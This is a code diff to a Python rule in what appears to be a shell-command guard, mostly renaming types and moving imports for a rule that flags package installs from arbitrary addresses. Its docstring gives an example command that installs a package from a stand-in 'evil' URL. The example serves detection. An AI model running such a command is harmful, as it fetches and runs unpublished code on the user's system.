@@ -2,10 +2,10 @@
 
 from __future__ import annotations
 
-from snaphook.providers.guard.facts import Call, Span
-from snaphook.providers.guard.judgement import Answer
+from snaphook.providers.guard.judgement import GuardAnswer
 from snaphook.providers.guard.rules.harm import only_asks
-from snaphook.providers.guard.rules.rule import Rule, Scene
+from snaphook.providers.guard.rules.rule import Rule, RuleContext
+from snaphook.shell.facts import Call, Span
 
 _INSTALLERS = (
     "pip",
@@ -37,7 +37,7 @@ _PUBLISHED = (
 )
 
 
-def objects_to(call: Call, _scene: Scene) -> Span | None:
+def objects_to(call: Call, _scene: RuleContext) -> Span | None:
     """Point at an address that software would be installed from.
 
     Asks: pip install https://example.com/evil.tar.gz
@@ -66,7 +66,7 @@ def objects_to(call: Call, _scene: Scene) -> Span | None:
 
 RULE = Rule(
     id="packages.address",
-    answer=Answer.ASK,
+    answer=GuardAnswer.ASK,
     says="installs software from an address of its own",
     why="what it brings runs on install, and nobody has published it",
     instead="Install it by name from the usual registry.",
